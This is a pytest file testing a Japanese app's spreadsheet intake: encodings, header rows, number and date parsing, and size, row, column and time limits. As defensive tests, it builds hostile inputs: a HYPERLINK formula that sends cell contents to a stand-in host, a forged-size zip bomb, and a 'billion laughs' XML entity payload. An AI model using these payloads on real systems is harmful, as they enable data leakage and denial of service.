"""The one spreadsheet intake: encodings, header rows, row numbers, limits (zip bomb, rows, columns, time)."""

import csv
import datetime
import io
import struct
import zipfile

import openpyxl
import pytest

from shaho.core import exports, intake
from shaho.core.intake import Column, IntakeError, Layout, Limits

LAYOUT = Layout(
    columns=(
        Column("name", "名前", aliases=("氏名",), required=True),
        Column("count", "数", aliases=("筆数",), required=True),
        Column("when", "日付"),
    )
)
ROWS = [["川崎社保協", "１２", "令和7年12月7日"], ["横浜社保協", "6万5千", "2025/12/8"]]


def csv_data(rows, headers=("名前", "数", "日付"), encoding="utf-8", above=()):
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([*above, list(headers), *rows])
    return buffer.getvalue().encode(encoding)


def xlsx_data(rows, headers=("名前", "数", "日付"), above=()):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for line in [*above, list(headers), *rows]:
        sheet.append(list(line))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def read(data, limits=None, **kwargs):
    return intake.read_file(data=data, filename=kwargs.pop("filename", "a.csv"), layout=LAYOUT, limits=limits, **kwargs)


@pytest.mark.parametrize(("encoding", "codec"), [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("cp932", "cp932")])
def test_csv_in_every_encoding_reads_the_same_rows(encoding, codec):
    parsed = read(csv_data(ROWS, encoding=encoding))
    assert parsed.file_format == "csv" and parsed.encoding == codec
    assert [r.cells for r in parsed] == [
        {"name": "川崎社保協", "count": "１２", "when": "令和7年12月7日"},
        {"name": "横浜社保協", "count": "6万5千", "when": "2025/12/8"},
    ]


def test_header_found_below_titles_by_alias_with_row_numbers_as_the_sheet_shows_them():
    above = [["2025年度 集約表"], []]
    for data, name in ((csv_data(ROWS, headers=("備考", "筆数", "氏名"), above=above), "a.csv"),):
        parsed = read(data, filename=name)
        assert parsed.header_row == 3 and parsed.columns == {"count": "筆数", "name": "氏名"}
        assert [r.number for r in parsed] == [4, 5]
    parsed = read(xlsx_data(ROWS, headers=("氏名", "筆数（筆）", "日付"), above=[["集約表"]]), filename="a.xlsx")
    assert parsed.file_format == "xlsx" and parsed.header_row == 2
    assert [r.number for r in parsed] == [3, 4] and parsed.rows[0].cells["name"] == "川崎社保協"


def test_a_missing_required_column_is_named():
    with pytest.raises(IntakeError, match="「数」の列がありません"):
        read(csv_data(ROWS, headers=("名前", "x", "日付")))


def test_cells_are_normalised_through_japanese():
    assert intake.read_count("１２") == 12 and intake.read_count("6万5千") == 65000 and intake.read_count(3.0) == 3
    assert intake.read_date("令和7年12月7日") == datetime.date(2025, 12, 7)
    assert intake.read_date(45998) == datetime.date(2025, 12, 7)  # an Excel serial
    assert intake.read_name("　川崎 社保協 ") == "川崎社保協"
    with pytest.raises(ValueError, match="整数"):
        intake.read_count("たくさん")


def test_an_exported_cell_reads_back_as_it_was_written():
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    data = exports.csv_bytes([["名前", "数"], [formula, 1]])
    assert data.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")
    assert read(data).rows[0].cells["name"] == formula


# --- limits ------------------------------------------------------------------


def test_rows_past_the_limit_are_refused_in_japanese():
    limits = Limits(max_rows=3)
    assert len(read(csv_data([ROWS[0]] * 3), limits)) == 3
    with pytest.raises(IntakeError, match="行数が上限（3行）"):
        read(csv_data([ROWS[0]] * 4), limits)
    with pytest.raises(IntakeError, match="行数が上限（3行）"):
        read(xlsx_data([ROWS[0]] * 4), limits, filename="a.xlsx")


def test_columns_past_the_limit_are_refused_in_csv_and_xlsx():
    limits = Limits(max_columns=5)
    wide = [[*ROWS[0], "", "", "6列目"]]
    with pytest.raises(IntakeError, match="6列目以降の値があります"):
        read(csv_data(wide), limits)
    # Empty trailing cells do not count.
    assert len(read(csv_data([[*ROWS[0], "", "", ""]]), limits)) == 1
    with pytest.raises(IntakeError, match="列数の上限（5列）"):
        read(xlsx_data(wide), limits, filename="a.xlsx")


def _bomb(declared_size, real=b"<x/>"):
    """An xlsx-shaped zip whose sheet declares `declared_size` bytes unpacked (from a few KB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", real)
    data = bytearray(buffer.getvalue())
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared_size)  # uncompressed size in the central directory
    return bytes(data)


def test_an_xlsx_that_would_unpack_beyond_the_limit_is_refused_before_it_is_opened(monkeypatch):
    import openpyxl as module

    opened = []
    monkeypatch.setattr(module, "load_workbook", lambda *a, **k: opened.append(1))
    with pytest.raises(IntakeError, match="展開すると1,024MBになり、上限（100MB）を超える"):
        read(_bomb(1024 * 1024 * 1024), Limits(max_unpacked_bytes=100 * 1024 * 1024), filename="a.xlsx")
    assert opened == []


def test_a_member_inflating_too_many_times_is_refused():
    zeros = b"0" * (8 * 1024 * 1024)  # 8 MB of one byte: deflates about 1000 times
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", zeros)
    with pytest.raises(IntakeError, match="圧縮率が異常に高く"):
        read(buffer.getvalue(), Limits(max_ratio=200), filename="a.xlsx")


def test_a_member_holding_more_than_it_declares_is_not_inflated_past_its_declared_size():
    """Why the declared sizes bound the cost: Python's zipfile stops at them (and fails the CRC)."""
    data = _bomb(100, real=b"x" * 5_000_000)
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.getinfo("xl/worksheets/sheet1.xml").file_size == 100
    with pytest.raises(zipfile.BadZipFile, match="CRC"):
        archive.read("xl/worksheets/sheet1.xml")
    with pytest.raises(IntakeError, match="xlsx"):
        read(data, filename="a.xlsx")


def test_a_sheet_declaring_more_columns_than_the_limit_is_refused():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["名前", "数"])
    sheet.cell(row=5, column=16384, value="遠くのセル")
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(IntakeError, match="16,384列あり、列数の上限（100列）"):
        read(buffer.getvalue(), Limits(), filename="a.xlsx")


def test_the_time_budget_stops_a_slow_read(monkeypatch):
    clock = iter(range(0, 10_000_000, 10))
    monkeypatch.setattr(intake.time, "monotonic", lambda: next(clock))
    with pytest.raises(IntakeError, match="5秒以内に終わらないため中止しました"):
        read(csv_data([ROWS[0]] * 5000), Limits(max_seconds=5))


def test_the_file_size_limit_and_empty_xls_utf16_files():
    with pytest.raises(IntakeError, match="1MB まで"):
        read(b"x" * (1024 * 1024 + 1), Limits(max_file_bytes=1024 * 1024))
    with pytest.raises(IntakeError, match="空です"):
        read(b"")
    with pytest.raises(IntakeError, match="xls 形式"):
        read(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 10, filename="a.xls")
    with pytest.raises(IntakeError, match="UTF-16"):
        read(csv_data(ROWS, encoding="utf-16"))


def test_limits_come_from_settings(settings):
    settings.SHAHO_IMPORT_MAX_ROWS = 7
    settings.SHAHO_IMPORT_MAX_COLUMNS = 9
    limits = Limits.from_settings()
    assert (limits.max_rows, limits.max_columns) == (7, 9)


# --- outcome files -------------------------------------------------------------


def test_outcome_file_lists_every_row_in_csv_and_xlsx_without_live_formulas():
    from shaho.core.imports import Importer, ImportPreview, ImportRow

    class Names(Importer):
        layout_keys = ("name", "count")

    first = ImportRow(2, {"name": "=1+1", "count": 5})
    second = ImportRow(3, {"name": "横浜", "count": "x"})
    second.error("数", "「x」は整数として読めません。")
    preview = ImportPreview(headers=["名前", "数"], rows=[first, second])
    table = list(Names().outcome_table(preview))
    content, content_type, extension = intake.outcome_file(table, file_format="csv")
    lines = content.decode("utf-8-sig").splitlines()
    assert extension == "csv" and content_type.startswith("text/csv")
    assert lines == [
        "行,結果,名前,数,エラー",
        "2,新規,'=1+1,5,",
        "3,エラー,横浜,x,「数」「x」は整数として読めません。",
    ]
    content, _, extension = intake.outcome_file(table, file_format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["C2"].value == "'=1+1" and sheet["C2"].data_type != "f" and sheet["D2"].value == 5


def test_an_xlsx_with_xml_entities_is_refused_unexpanded():
    """openpyxl parses through defusedxml (requirements.txt): no DTD, no entity expansion (billion laughs)."""
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ああああああああああ"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>名前</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>数</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>&b;</t></is></c><c r="B2"><v>1</v></c></row>'
        "</sheetData></worksheet>"
    )
    workbook = openpyxl.Workbook()
    workbook.active.append(["名前", "数"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            content = laughs if member.filename == "xl/worksheets/sheet1.xml" else source.read(member)
            target.writestr(member, content)
    with pytest.raises(IntakeError, match="xlsx"):
        read(out.getvalue(), filename="a.xlsx")


def test_the_time_budget_ends_before_the_web_worker_is_killed(settings, monkeypatch):
    """gunicorn's timeout (docker/gunicorn.conf.py, which docker/entrypoint.sh runs with; default 60 s) is longer
    than the import's time budget."""
    import runpy
    from pathlib import Path

    monkeypatch.delenv("GUNICORN_TIMEOUT", raising=False)
    docker = Path(settings.BASE_DIR) / "docker"
    assert "--config docker/gunicorn.conf.py" in (docker / "entrypoint.sh").read_text()
    timeout = runpy.run_path(str(docker / "gunicorn.conf.py"))["timeout"]
    assert Limits.from_settings().max_seconds < timeout - 10


def test_headers_no_column_reads_are_reported_with_their_column_numbers():
    layout = intake.Layout(columns=(intake.Column("name", "名前", required=True), intake.Column("count", "数")))
    parsed = intake.read_file(data="名前,メモ,数,\tその他\nA,x,1,y\n".encode(), filename="a.csv", layout=layout)
    assert parsed.unknown_headers == [(2, "メモ"), (4, "その他")]
